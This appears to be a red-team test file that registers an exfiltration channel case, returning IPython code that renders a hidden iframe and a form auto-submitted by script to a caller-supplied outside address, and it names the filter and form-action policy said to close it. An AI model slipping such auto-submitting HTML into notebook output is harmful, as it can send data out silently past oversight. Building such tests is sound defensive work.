from __future__ import annotations

from tests.redteam.channel import beacon


@beacon(
    "beacon-form",
    "A form that sends itself to an address outside",
    closed_by="wire filter: no forms; policy of content: form-action",
)
def cell(address: str) -> str:
    html = (
        "<iframe name='carried'></iframe>"
        f"<form id='carried' action='{address}' target='carried'><input name='x' value='y'></form>"
        "<script>document.getElementById('carried').submit()</script>"
    )
    return f"from IPython.display import HTML\nHTML({html!r})"
